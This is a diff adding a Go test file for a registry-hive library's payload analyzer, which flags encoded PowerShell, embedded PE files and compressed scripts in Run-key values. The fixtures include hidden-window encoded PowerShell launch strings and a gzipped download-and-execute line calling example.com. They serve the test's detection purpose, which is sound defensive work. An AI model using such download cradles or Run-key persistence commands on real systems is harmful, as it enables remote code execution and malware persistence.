@@ -0,0 +1,128 @@
+package libregf_test
+
+import (
+    "bytes"
+    "compress/gzip"
+    "encoding/base64"
+    "encoding/hex"
+    "strings"
+    "testing"
+
+    "github.com/jdrowell/go-libregf"
+    "github.com/jdrowell/go-libregf/regftest"
+)
+
+// encodePowerShell encodes a command the way powershell.exe -EncodedCommand expects.
+func encodePowerShell(command string) string {
+    return base64.StdEncoding.EncodeToString([]byte(utf16LE(command)))
+}
+
+// pe returns the smallest data recognized as a PE file.
+func pe() []byte {
+    data := make([]byte, 0x80)
+    copy(data, "MZ")
+    data[0x3c] = 0x40
+    copy(data[0x40:], "PE\x00\x00")
+    return data
+}
+
+func gzipped(data string) []byte {
+    var buf bytes.Buffer
+    w := gzip.NewWriter(&buf)
+    w.Write([]byte(data))
+    w.Close()
+    return buf.Bytes()
+}
+
+func TestAnalyzePayloads(t *testing.T) {
+    run := "powershell.exe -ExecutionPolicy Unrestricted -enc " + encodePowerShell("Write-Host policy")
+    h := &regftest.Hive{Keys: []regftest.Key{{Path: "Run", Values: []regftest.Value{
+        {Name: "Policy", Type: "REG_SZ", String: run},
+        {Name: "Short", Type: "REG_SZ", String: "pwsh -nop -w hidden -e " + encodePowerShell("Write-Host short")},
+        {Name: "Slash", Type: "REG_EXPAND_SZ", String: "%SystemRoot%\\powershell.exe /ec \"" + encodePowerShell("Write-Host slash") + "\""},
+        {Name: "File", Type: "REG_SZ", String: "powershell.exe -ExecutionPolicy RemoteSigned -File C:\\Scripts\\backup.ps1"},
+        {Name: "PE", Type: "REG_BINARY", Data: pe()},
+        {Name: "Gzip", Type: "REG_BINARY", Data: gzipped("IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')")},
+        {Name: "Hex", Type: "REG_SZ", String: hex.EncodeToString(pe())},
+        {Name: "Base64", Type: "REG_SZ", String: base64.StdEncoding.EncodeToString(bytes.Repeat([]byte("registry"), 12))},
+        {Name: "Plain", Type: "REG_SZ", String: "C:\\Program Files\\Vendor\\app.exe --minimized"},
+    }}}}
+
+    findings, err := libregf.AnalyzePayloads(openHive(t, h))
+    if err != nil { t.Fatal(err) }
+
+    got := map[string]libregf.PayloadFinding{}
+    for _, f := range findings {
+        got[f.Value] = f
+    }
+    for name, want := range map[string]libregf.PayloadKind{
+        "Policy": libregf.PayloadPowerShell,
+        "Short":  libregf.PayloadPowerShell | libregf.PayloadScript,
+        "Slash":  libregf.PayloadPowerShell,
+        "PE":     libregf.PayloadPE,
+        "Gzip":   libregf.PayloadCompressed | libregf.PayloadScript,
+        "Hex":    libregf.PayloadHex | libregf.PayloadPE,
+        "Base64": libregf.PayloadBase64,
+    } {
+        if f := got[name]; f.Kinds != want { t.Errorf("%s: got %v, want %v", name, f.Kinds, want) }
+    }
+    for _, name := range []string{"File", "Plain"} {
+        if f, ok := got[name]; ok { t.Errorf("%s: unexpected finding %v %q", name, f.Kinds, f.Details) }
+    }
+
+    if details := strings.Join(got["Policy"].Details, "\n"); !strings.Contains(details, "Write-Host policy") {
+        t.Errorf("Policy: the command wasn't decoded: %q", details)
+    }
+
+    // findings are ranked by decreasing score
+    for i := 1; i < len(findings); i++ {
+        if findings[i].Score > findings[i-1].Score { t.Errorf("finding %d scores more than the one before", i) }
+    }
+}
+
+func TestAnalyzePayloadsOversized(t *testing.T) {
+    h := regftest.Standard()
+    h.Keys = append(h.Keys,
+        regftest.Key{Path: "Payloads", Values: []regftest.Value{
+            {Name: "Large", Type: "REG_SZ", String: "powershell -enc " + encodePowerShell("Write-Host large") + strings.Repeat(" ", 5000)},
+            {Name: "Small", Type: "REG_BINARY", Data: pe()},
+        }},
+        regftest.Key{Path: "Corrupted", Values: []regftest.Value{{Name: "Huge", Type: "REG_BINARY", Size: 20000}}},
+    )
+    h.Corruptions = []regftest.Corruption{{Path: "Corrupted", Value: "Huge", Kind: regftest.BadDataSize}}
+    file := openHive(t, h, libregf.WithMaxValueSize(4096))
+
+    findings, err := file.AnalyzePayloads()
+    if err != nil { t.Fatalf("oversized values stopped the walk: %v", err) }
+
+    got := map[string]libregf.PayloadFinding{}
+    for _, f := range findings {
+        got[f.Path+"\\"+f.Value] = f
+    }
+    if f := got["Payloads\\Small"]; f.Kinds != libregf.PayloadPE { t.Errorf("Small: got %v", f.Kinds) }
+    if f := got["Corrupted\\Huge"]; f.Kinds&libregf.PayloadOversized == 0 || f.Size != 1<<30 { t.Errorf("Huge: got %v, %d bytes", f.Kinds, f.Size) }
+    if f := got["Types\\Big"]; f.Kinds&libregf.PayloadOversized == 0 || f.Size != 40000 { t.Errorf("Big: got %v, %d bytes", f.Kinds, f.Size) }
+
+    // the prefix of oversized data is analyzed when the Value can be read in part
+    f := got["Payloads\\Large"]
+    if f.Kinds&libregf.PayloadOversized == 0 { t.Errorf("Large: got %v", f.Kinds) }
+    if libregf.Version() == "purego" && f.Kinds&libregf.PayloadPowerShell == 0 { t.Errorf("Large: the prefix wasn't analyzed, got %v", f.Kinds) }
+}
+
+func TestAnalyzePayloadsUnreadable(t *testing.T) {
+    h := regftest.Standard()
+    h.Corruptions = []regftest.Corruption{{Path: "Types", Value: "String", Kind: regftest.BadDataOffset}}
+
+    findings, err := libregf.AnalyzePayloads(openHive(t, h))
+    if err != nil { t.Fatalf("an unreadable value stopped the walk: %v", err) }
+
+    got := map[string]libregf.PayloadFinding{}
+    for _, f := range findings {
+        got[f.Path+"\\"+f.Value] = f
+    }
+    if f := got["Types\\String"]; f.Kinds != libregf.PayloadUnreadable || len(f.Details) != 1 || f.Details[0] == "" {
+        t.Errorf("String: got %v %q", f.Kinds, f.Details)
+    }
+    // the Values after it are still analyzed
+    if f := got["Types\\Big"]; f.Kinds&libregf.PayloadHighEntropy == 0 { t.Errorf("Big: got %v", f.Kinds) }
+}